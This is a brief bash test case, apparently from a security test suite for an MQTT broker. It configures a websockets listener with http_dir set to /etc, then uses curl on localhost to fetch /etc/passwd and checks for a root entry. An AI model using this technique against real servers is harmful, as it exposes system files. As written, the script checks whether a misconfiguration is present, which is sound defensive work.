# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1105
about="the configuration serves files of the host by HTTP (websockets with http_dir)"
attack() {
	configure <<-end
		listener 1887 127.0.0.1
		protocol websockets
		http_dir /etc
	end
	curl -sS --max-time 5 http://127.0.0.1:1887/passwd >"$state/answer"
}
effect() { grep -q '^root:' "$state/answer"; }
